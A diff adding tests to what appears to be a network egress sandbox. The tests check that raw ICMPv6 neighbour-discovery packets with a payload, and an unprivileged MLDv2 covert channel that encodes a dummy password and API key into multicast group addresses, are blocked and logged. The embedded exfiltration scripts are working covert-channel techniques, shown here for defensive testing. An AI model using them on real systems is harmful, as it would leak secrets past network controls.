@@ -7,6 +7,7 @@ docs/hardening.md."""
 
 from __future__ import annotations
 
+import ipaddress
 import json
 import os
 import time
@@ -159,3 +160,89 @@ def _comm(pid: int) -> str:
         return Path(f"/proc/{pid}/comm").read_text().strip()
     except OSError:
         return ""
+
+
+# --- 2. ICMPv6 neighbour discovery / MLD with a payload -------------------------------------
+RAW_ND = r"""
+import json, socket, sys
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
+out = {}
+for kind in (133, 135, 136, 143):
+    body = bytes([kind, 0, 0, 0]) + b"\0" * 20 + f"NDSECRET-{kind}-".encode() * 12
+    try:
+        out[kind] = s.sendto(body, (sys.argv[1], 0))
+    except OSError as exc:
+        out[kind] = exc.errno
+print(json.dumps(out))
+"""
+
+
+def test_raw_neighbour_discovery_with_a_payload_never_arrives(topo, tmp_path):
+    s = start(topo, tmp_path)
+    cap = Capture(topo, tmp_path, "NDSECRET")
+    sent = json.loads(topo.run("app", PYTHON, "-I", "-c", RAW_ND, OUTSIDE6).stdout)
+    # the kernel's own neighbour discovery still works: a first IPv6 connect to an upstream
+    assert topo.probe("tcp", "2001:db8::2", 5432)["ok"]
+    time.sleep(1)
+    seen = cap.stop()
+    assert seen["found"]["NDSECRET"] == 0, seen
+    assert topo.outside_packets() == 0
+    assert len(sent) == 4, sent
+    for kind in (133, 135, 136, 143):
+        e = s.wait_event("egress_attempt", dst_ip=OUTSIDE6, protocol="icmpv6")
+        assert e["verdict"] == "blocked"
+        found = wait_for(
+            lambda k=kind: [
+                x
+                for x in s.events("egress_attempt", dst_ip=OUTSIDE6)
+                if x["detail"].get("icmp_type") == k
+            ],
+            10,
+        )
+        assert found, (kind, s.log())
+
+
+# --- 3. MLDv2 covert channel, no privileges -------------------------------------------------
+SECRET = b"TOPSECRET:postgres-password=hunter2;api-key=sk-XYZ"
+JOIN = r"""
+import json, socket, struct, sys, time
+index = socket.if_nametoindex("eth0")
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+out = []
+for group in sys.argv[1:]:
+    try:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
+                     socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", index))
+        out.append("joined")
+    except OSError as exc:
+        out.append(exc.errno)
+time.sleep(3)  # the kernel sends each report, then repeats it (robustness 2)
+print(json.dumps(out))
+"""
+
+
+CHUNKS = [SECRET[i : i + 14].ljust(14, b"\0") for i in range(0, 56, 14)]
+# four groups carrying the secret, and a solicited-node group of no address of ours
+GROUPS = [str(ipaddress.IPv6Address(b"\xff\x0e" + c)) for c in CHUNKS] + ["ff02::1:ff12:3456"]
+
+
+def test_unprivileged_mld_joins_carry_nothing_out_and_are_counted(topo, tmp_path):
+    s = start(topo, tmp_path)
+    hexes = [f"hex:{c.hex()}" for c in CHUNKS]
+    cap = Capture(topo, tmp_path, *hexes, "hex:ff0200000000000000000001ff123456")
+    joined = topo.run("app", *NOBODY, *NO_CAPS, PYTHON, "-I", "-c", JOIN, *GROUPS, timeout=30)
+    assert json.loads(joined.stdout) == ["joined"] * 5, joined.stderr
+    seen = cap.stop()
+    assert sum(seen["found"].values()) == 0, seen
+    assert seen["icmpv6_types"].get("143", 0) == 0, seen
+
+    def mld() -> list[dict]:
+        return [e for e in s.events("egress_attempt") if e["detail"].get("link_layer") == "mld"]
+
+    # every report is an attempt; together they name all five groups (a report lists several)
+    got = wait_for(lambda: sum(e["detail"]["records"] for e in mld()) >= 5 and mld(), 10)
+    assert got, s.log()
+    assert {g for e in got for g in e["detail"]["groups"]} <= set(GROUPS)
+    assert {e["verdict"] for e in got} == {"blocked"}
+    assert all(e["detail"]["icmp_type"] == 143 and e["dst_port"] is None for e in got)
